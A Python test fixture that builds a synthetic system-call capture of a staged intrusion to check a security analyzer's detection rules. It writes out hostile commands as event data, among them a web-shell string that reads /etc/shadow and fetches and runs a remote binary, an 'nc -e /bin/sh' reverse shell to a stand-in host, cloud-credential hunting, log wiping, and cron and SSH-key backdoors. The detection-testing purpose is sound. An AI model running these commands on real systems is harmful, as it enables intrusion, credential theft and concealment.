"""A writer-made capture that acts out the attacks scapkit's default rules look for.

``build(path)`` writes the capture and returns the events every default rule must fire on, as
``Expect(rule, tid, evt_type)``, in capture order. Besides the attacks it holds benign look-alikes
that must stay silent (sshd reading /etc/shadow, ssh reading its key, curl to port 80, ls connecting
to 443, the web app talking to a local redis, a shell in the container's parent chain, rsyslogd rewriting its own log).

Story: a Python ``http.server`` (pid 500, www-data) gets a web shell that reads /etc/shadow,
downloads /tmp/.x, runs it, and the payload connects back to 198.51.100.7:4444 and puts the socket
on its stdin/stdout. Root's shell (pid 800) then hunts for keys and cloud credentials, empties
logs and history, deletes data, plants symlinks/hard links, a cron job and an SSH key, forges
timestamps, sniffs with a packet socket,
loads a module, attaches a debugger, runs a memfd payload and a /dev/shm miner. In a container
(pid 900, docker cgroup), a terminal shell and a scripted shell are started.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from pathlib import Path

from analyzer.scap import model as m
from analyzer.scap import writer as w

T0 = 1_764_392_400_000_000_000  # 2025-11-29T05:00:00Z
HOSTNAME = "scenario-host"
CONTAINER_CGROUP = "cpu=/docker/" + "c0ffee" * 10 + "abcd"
CONTAINER_ID = ("c0ffee" * 10 + "abcd")[:12]
TTY_PTS0 = 34816  # makedev(136, 0)

# event ids beyond the helper functions (HEAD table)
PTRACE_E = 168
SYMLINKAT_E = 180
LINKAT_E = 310
DUP2_E = 362
FINIT_MODULE_E = 412
PPM_AF_PACKET = 17
PPM_PTRACE_ATTACH = 11
PPM_PTRACE_TRACEME = 1
SOCK_RAW = 3


@dataclass(frozen=True)
class Expect:
    rule: str
    tid: int
    evt_type: str


def _proc(tid: int, ptid: int, comm: str, exepath: str, args: list[str], **kw: object) -> m.ProcEntry:
    base: dict[str, object] = {
        "tid": tid,
        "pid": tid,
        "ptid": ptid,
        "comm": comm,
        "exe": exepath,
        "exepath": exepath,
        "args": args,
        "cwd": "/",
        "fdlimit": 1024,
        "vtid": tid,
        "vpid": tid,
        "sid": tid,
        "vpgid": tid,
        "loginuid": None,
    }
    base.update(kw)
    return m.ProcEntry(**base)  # type: ignore[arg-type]


class _Script:
    """Appends events with increasing timestamps."""

    def __init__(self, cw: w.CaptureWriter) -> None:
        self.cw = cw
        self.ts = T0 + 1_000_000

    def ev(self, tid: int, events: list[w.Ev]) -> None:
        self.ts = self.cw.write_events(self.ts, tid, events, dt=1000) + 10_000

    def spawn(self, parent: m.ProcEntry, child: m.ProcEntry) -> None:
        """fork of ``parent`` into child.tid, then execve of ``child``'s image."""
        pe, ce = w.clone_events(parent, child.tid)
        self.ev(parent.tid, pe)
        self.ev(child.tid, ce)
        self.ev(child.tid, w.execve_events(child))

    def exit(self, tid: int) -> None:
        self.ev(tid, w.procexit_events(0))


def build(path: str | Path) -> list[Expect]:
    systemd = _proc(1, 0, "systemd", "/usr/lib/systemd/systemd", ["--system"], loginuid=0xFFFFFFFF)
    web = _proc(
        500, 1, "python3", "/usr/bin/python3.11", ["-m", "http.server", "8000"],
        cwd="/srv/www", uid=33, gid=33,
    )
    sshd = _proc(700, 1, "sshd", "/usr/sbin/sshd", ["-D"])
    rsyslog = _proc(710, 1, "rsyslogd", "/usr/sbin/rsyslogd", ["-n"])
    root_sh = _proc(
        800, 700, "bash", "/usr/bin/bash", [], cwd="/root", tty=TTY_PTS0, loginuid=0,
    )
    app = _proc(
        900, 1, "node", "/usr/local/bin/node", ["server.js"], cwd="/app", uid=1000, gid=1000,
        cgroups=[CONTAINER_CGROUP], vtid=1, vpid=1,
    )
    procs = [systemd, web, sshd, rsyslog, root_sh, app]
    users = [
        m.User(0, 0, "root", "/root", "/bin/bash"),
        m.User(33, 33, "www-data", "/var/www", "/usr/sbin/nologin"),
        m.User(1000, 1000, "node", "/home/node", "/bin/sh"),
    ]
    groups = [m.Group(0, "root"), m.Group(33, "www-data"), m.Group(1000, "node")]
    fdlists = {
        500: [m.FdEntry(3, 5000, m.FD_IPV4_SERVSOCK, sip=bytes(4), sport=8000, l4proto=w.L4_TCP)],
        800: [
            m.FdEntry(0, 3, m.FD_FILE_V2, "/dev/pts/0", open_flags=w.O_RDWR),
            m.FdEntry(1, 3, m.FD_FILE_V2, "/dev/pts/0", open_flags=w.O_RDWR),
            m.FdEntry(2, 3, m.FD_FILE_V2, "/dev/pts/0", open_flags=w.O_RDWR),
        ],
    }
    exp: list[Expect] = []

    with w.CaptureWriter(path) as cw:
        cw.write_header(
            m.MachineInfo(num_cpus=2, memory_bytes=4 << 30, max_pid=4194304, hostname=HOSTNAME, boot_ts=T0 - 10**12),
            users=users,
            groups=groups,
            procs=procs,
            fdlists=fdlists,
        )
        s = _Script(cw)

        # --- web shell --------------------------------------------------------------------
        shell_cmd = "cat /etc/shadow; curl -so /tmp/.x http://203.0.113.9/x; chmod +x /tmp/.x; /tmp/.x"
        websh = replace(web, tid=501, pid=501, ptid=500, comm="sh", exe="sh", exepath="/usr/bin/sh",
                        args=["-c", shell_cmd], vtid=501, vpid=501)
        s.spawn(web, websh)
        exp.append(Expect("Web server spawned a shell", 501, "execve"))

        cat = replace(websh, tid=502, pid=502, ptid=501, comm="cat", exe="cat", exepath="/usr/bin/cat",
                      args=["/etc/shadow"], vtid=502, vpid=502)
        s.spawn(websh, cat)
        s.ev(502, w.openat_events(3, "/etc/shadow", w.O_RDONLY | w.O_CLOEXEC))
        exp.append(Expect("Credentials file read", 502, "openat"))
        s.ev(502, w.read_events(3, b"root:$y$j9T$abc:19000:0:99999:7:::\n"))
        s.ev(502, w.close_events(3))
        s.exit(502)

        curl = replace(websh, tid=503, pid=503, ptid=501, comm="curl", exe="curl", exepath="/usr/bin/curl",
                       args=["-so", "/tmp/.x", "http://203.0.113.9/x"], vtid=503, vpid=503)
        s.spawn(websh, curl)
        s.ev(503, w.socket_events(3, w.AF_INET, w.SOCK_STREAM, w.IPPROTO_TCP))
        s.ev(503, w.connect_events(3, "10.0.0.2", 51000, "203.0.113.9", 80))  # usual port: silent
        s.ev(503, w.openat_events(4, "/tmp/.x", w.O_WRONLY | w.O_CREAT | w.O_TRUNC, 0o644))
        s.ev(503, w.write_io_events(4, b"\x7fELF\x02\x01\x01" + bytes(40)))
        s.ev(503, w.close_events(4))
        s.exit(503)

        payload = replace(websh, tid=504, pid=504, ptid=501, comm=".x", exe="/tmp/.x", exepath="/tmp/.x",
                          args=[], vtid=504, vpid=504, exe_writable=True)
        s.spawn(websh, payload)
        exp.append(Expect("Dropped binary executed", 504, "execve"))
        s.ev(504, w.socket_events(3, w.AF_INET, w.SOCK_STREAM, w.IPPROTO_TCP))
        s.ev(504, w.connect_events(3, "10.0.0.2", 40312, "198.51.100.7", 4444))
        exp.append(Expect("Outbound connection to an unusual port", 504, "connect"))
        for newfd in (0, 1):
            s.ev(504, w.syscall_events(DUP2_E, [3], [newfd, 3, newfd]))
            exp.append(Expect("Standard streams redirected to a network socket", 504, "dup2"))

        # --- benign look-alikes -------------------------------------------------------------
        s.ev(700, w.openat_events(5, "/etc/shadow", w.O_RDONLY | w.O_CLOEXEC))
        s.ev(710, w.openat_events(6, "/var/log/syslog", w.O_WRONLY | w.O_CREAT | w.O_TRUNC, 0o640))
        s.ev(500, w.socket_events(8, w.AF_INET, w.SOCK_STREAM, w.IPPROTO_TCP))
        s.ev(500, w.connect_events(8, "127.0.0.1", 40100, "127.0.0.1", 6379))  # loopback: silent

        # --- root's shell -------------------------------------------------------------------
        def child(tid: int, comm: str, exepath: str, args: list[str], **kw: object) -> m.ProcEntry:
            c = replace(root_sh, tid=tid, pid=tid, ptid=800, comm=comm, exe=comm, exepath=exepath,
                        args=args, vtid=tid, vpid=tid)
            return replace(c, **kw) if kw else c

        ls = child(799, "ls", "/usr/bin/ls", ["-la", "/tmp"])
        s.spawn(root_sh, ls)
        s.ev(799, w.socket_events(3, w.AF_INET, w.SOCK_STREAM, w.IPPROTO_TCP))
        s.ev(799, w.connect_events(3, "10.0.0.2", 51001, "10.0.0.5", 443))  # usual port: silent
        s.exit(799)

        ssh = child(798, "ssh", "/usr/bin/ssh", ["-i", "/root/.ssh/id_rsa", "deploy@10.0.0.7"])
        s.spawn(root_sh, ssh)
        s.ev(798, w.openat_events(3, "/root/.ssh/id_rsa", w.O_RDONLY))  # the key's own client: an exception
        s.exit(798)

        find = child(801, "find", "/usr/bin/find", ["/", "-name", "id_rsa*", "-type", "f"])
        s.spawn(root_sh, find)
        exp.append(Expect("Private key search", 801, "execve"))

        grep = child(802, "grep", "/usr/bin/grep", ["-r", "aws_secret_access_key", "/home"])
        s.spawn(root_sh, grep)
        exp.append(Expect("Cloud credential or password search", 802, "execve"))

        cat2 = child(803, "cat", "/usr/bin/cat", ["/root/.aws/credentials"])
        s.spawn(root_sh, cat2)
        s.ev(803, w.openat_events(3, "/root/.aws/credentials", w.O_RDONLY))
        exp.append(Expect("Cloud or SSH secret read", 803, "openat"))

        s.ev(800, w.openat_events(3, "/var/log/auth.log", w.O_WRONLY | w.O_CREAT | w.O_TRUNC, 0o640))
        exp.append(Expect("Log file truncated", 800, "openat"))
        s.ev(800, w.close_events(3))

        rm = child(804, "rm", "/usr/bin/rm", ["-rf", "/var/www/uploads"])
        s.spawn(root_sh, rm)
        exp.append(Expect("Bulk data deletion", 804, "execve"))

        trunc = child(805, "truncate", "/usr/bin/truncate", ["-s", "0", "/var/log/wtmp"])
        s.spawn(root_sh, trunc)
        exp.append(Expect("Log clearing command", 805, "execve"))

        ln_s = child(806, "ln", "/usr/bin/ln", ["-s", "/etc/shadow", "/tmp/sh"])
        s.spawn(root_sh, ln_s)
        s.ev(806, w.syscall_events(SYMLINKAT_E, [], [0, "/etc/shadow", w.AT_FDCWD, "/tmp/sh"]))
        exp.append(Expect("Symlink to a sensitive file", 806, "symlinkat"))

        ln_h = child(807, "ln", "/usr/bin/ln", ["/etc/shadow", "/tmp/hl"])
        s.spawn(root_sh, ln_h)
        s.ev(807, w.syscall_events(LINKAT_E, [], [0, w.AT_FDCWD, "/etc/shadow", w.AT_FDCWD, "/tmp/hl", 0]))
        exp.append(Expect("Hard link to a sensitive file", 807, "linkat"))

        tcpdump = child(808, "tcpdump", "/usr/bin/tcpdump", ["-i", "any", "-w", "/tmp/c.pcap"])
        s.spawn(root_sh, tcpdump)
        s.ev(808, w.socket_events(3, PPM_AF_PACKET, SOCK_RAW, 768))
        exp.append(Expect("Raw packet socket opened", 808, "socket"))

        insmod = child(809, "insmod", "/usr/sbin/insmod", ["/tmp/rk.ko"])
        s.spawn(root_sh, insmod)
        s.ev(809, w.openat_events(3, "/tmp/rk.ko", w.O_RDONLY | w.O_CLOEXEC))
        s.ev(809, w.syscall_events(FINIT_MODULE_E, [], [0, 3, "", 0]))
        exp.append(Expect("Kernel module loaded", 809, "finit_module"))

        gdb = child(810, "gdb", "/usr/bin/gdb", ["-p", "700"])
        s.spawn(root_sh, gdb)
        s.ev(810, w.syscall_events(PTRACE_E, [PPM_PTRACE_ATTACH, 700], [0, (0, 0), (0, 0), PPM_PTRACE_ATTACH, 700]))
        exp.append(Expect("Debugger attached to a process", 810, "ptrace"))

        prot = child(811, "protected", "/opt/vendor/protected", [])
        s.spawn(root_sh, prot)
        s.ev(811, w.syscall_events(PTRACE_E, [PPM_PTRACE_TRACEME, 0], [0, (0, 0), (0, 0), PPM_PTRACE_TRACEME, 0]))
        exp.append(Expect("Anti-debugging self trace", 811, "ptrace"))

        memfd = child(812, "3", "memfd:payload (deleted)", [], exe="[kworker]", exe_from_memfd=True)
        s.spawn(root_sh, memfd)
        exp.append(Expect("Program run from an anonymous memory file", 812, "execve"))

        miner = child(813, ".miner", "/dev/shm/.miner", ["--donate-level", "0"])
        s.spawn(root_sh, miner)
        exp.append(Expect("Program run from shared memory", 813, "execve"))

        nc = child(814, "nc", "/usr/bin/nc.traditional", ["-e", "/bin/sh", "198.51.100.7", "4444"])
        s.spawn(root_sh, nc)
        exp.append(Expect("Reverse shell launched", 814, "execve"))

        s.ev(800, w.openat_events(4, "/etc/cron.d/backdoor", w.O_WRONLY | w.O_CREAT | w.O_TRUNC, 0o644))
        exp.append(Expect("Scheduled task or service unit written", 800, "openat"))
        s.ev(800, w.openat_events(5, "/root/.ssh/authorized_keys", w.O_WRONLY | w.O_CREAT | w.O_APPEND, 0o600))
        exp.append(Expect("Login hook or SSH key added", 800, "openat"))

        stomp = child(816, "touch", "/usr/bin/touch", ["-r", "/etc/hostname", "/etc/cron.d/backdoor"])
        s.spawn(root_sh, stomp)
        exp.append(Expect("File timestamps forged", 816, "execve"))

        rmh = child(817, "rm", "/usr/bin/rm", ["-f", "/root/.bash_history"])
        s.spawn(root_sh, rmh)
        exp.append(Expect("Log clearing command", 817, "execve"))

        ln_n = child(815, "ln", "/usr/bin/ln", ["-s", "/dev/null", "/root/.bash_history"])
        s.spawn(root_sh, ln_n)
        s.ev(815, w.syscall_events(SYMLINKAT_E, [], [0, "/dev/null", w.AT_FDCWD, "/root/.bash_history"]))
        exp.append(Expect("Log or history linked to /dev/null", 815, "symlinkat"))

        # --- container ---------------------------------------------------------------------
        csh = replace(app, tid=901, pid=901, ptid=900, comm="bash", exe="bash", exepath="/bin/bash",
                      args=[], tty=TTY_PTS0, vtid=7, vpid=7, uid=0, gid=0)
        s.spawn(app, csh)
        exp.append(Expect("Interactive shell in a container", 901, "execve"))

        csc = replace(app, tid=902, pid=902, ptid=900, comm="sh", exe="sh", exepath="/bin/sh",
                      args=["-c", "id"], vtid=8, vpid=8)
        s.spawn(app, csc)
        exp.append(Expect("Shell started in a container", 902, "execve"))
    return exp
